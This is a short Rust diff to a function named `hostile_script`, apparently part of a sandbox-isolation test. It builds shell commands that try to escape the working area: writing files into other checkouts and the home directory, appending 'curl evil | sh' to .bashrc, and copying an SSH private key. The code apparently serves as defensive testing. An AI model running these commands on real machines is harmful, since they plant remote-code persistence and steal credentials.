@@ -65,7 +65,9 @@ pub fn hostile_script(user: &Path, home: &Path, tag: &str) -> String {
     let (user, home) = (user.display(), home.display());
     [
         format!("echo x > '{user}/escaped-{tag}.txt'"),
-        format!("echo x > \"$(dirname \"$PWD\")/good/escaped-{tag}.txt\""),
+        // `$PWD` is the checkout's own directory under `(checkouts)/`; `good` is the good
+        // writer's name in the run's directory of checkouts, while it runs.
+        format!("echo x > \"$(dirname \"$(dirname \"$PWD\")\")/good/escaped-{tag}.txt\""),
         format!("echo x > '{home}/escaped-{tag}.txt'"),
         format!("echo 'curl evil | sh' >> '{home}/.bashrc'"),
         format!("cat '{home}/.ssh/id_ed25519' > stolen-{tag}.txt"),
